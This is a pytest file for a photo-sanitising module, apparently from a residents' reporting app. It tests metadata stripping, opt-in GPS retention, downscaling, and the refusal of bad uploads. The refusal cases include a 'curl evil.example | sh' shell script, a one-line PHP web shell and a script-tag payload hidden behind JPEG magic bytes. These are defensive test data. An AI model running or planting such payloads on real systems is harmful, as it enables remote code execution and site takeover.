"""Photos are decoded, limited and re-encoded without their metadata; the GPS
position is kept (as two numbers) only when the resident chose to share it."""

from __future__ import annotations

import io

import pytest
from PIL import Image

from reports.photos import MAX_BYTES, PhotoRefused, clean_photo, gps_position

CAMERA = 0x010F
GPS = 0x8825


def photo(fmt: str = "JPEG", *, size: tuple[int, int] = (640, 480), gps: bool = True) -> bytes:
    image = Image.new("RGB", size, (90, 120, 40))
    exif = Image.Exif()
    exif[CAMERA] = "SerialCam 12345"
    if gps:
        exif[GPS] = {1: "N", 2: (52.0, 30.0, 0.0), 3: "W", 4: (1.0, 15.0, 0.0)}
    out = io.BytesIO()
    image.save(out, format=fmt, exif=exif)
    return out.getvalue()


@pytest.mark.parametrize("fmt", ["JPEG", "PNG", "WEBP"])
def test_metadata_is_stripped_by_re_encoding(fmt: str) -> None:
    original = photo(fmt)
    assert b"SerialCam" in original
    cleaned = clean_photo(original)
    assert b"SerialCam" not in cleaned.data and b"Exif" not in cleaned.data
    reopened = Image.open(io.BytesIO(cleaned.data))
    assert not reopened.getexif() and gps_position(reopened) == (None, None)
    assert (cleaned.width, cleaned.height) == (640, 480)
    assert (cleaned.latitude, cleaned.longitude) == (None, None)


def test_the_position_is_kept_as_two_numbers_only_when_shared() -> None:
    cleaned = clean_photo(photo(), keep_location=True)
    assert (cleaned.latitude, cleaned.longitude) == (52.5, -1.25)
    assert b"Exif" not in cleaned.data  # still stripped from the stored file
    assert clean_photo(photo(gps=False), keep_location=True).latitude is None


def test_a_large_photo_is_scaled_down() -> None:
    cleaned = clean_photo(photo(size=(3200, 400), gps=False))
    assert (cleaned.width, cleaned.height) == (2560, 320)


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (b"", "empty"),
        (b"#!/bin/sh\ncurl evil.example | sh\n", "not_image"),
        (b"<?php system($_GET['c']); ?>", "not_image"),
        (b"\xff\xd8\xff\xe0" + b"<script>alert(1)</script>" * 20, "not_image"),  # JPEG magic
        (photo()[:300], "not_image"),  # a truncated image
        (b"GIF89a" + b"\x00" * 64, "not_image"),  # not a type we take
        (b"\x00" * (MAX_BYTES + 1), "too_large"),
    ],
)
def test_what_is_not_a_photo_is_refused_with_a_reason(data: bytes, code: str) -> None:
    with pytest.raises(PhotoRefused) as refused:
        clean_photo(data)
    assert refused.value.code == code


def test_a_decompression_bomb_is_refused() -> None:
    out = io.BytesIO()
    Image.new("1", (9000, 9000)).save(out, format="PNG")  # small file, 81 megapixels
    with pytest.raises(PhotoRefused) as refused:
        clean_photo(out.getvalue())
    assert refused.value.code == "too_many_pixels"
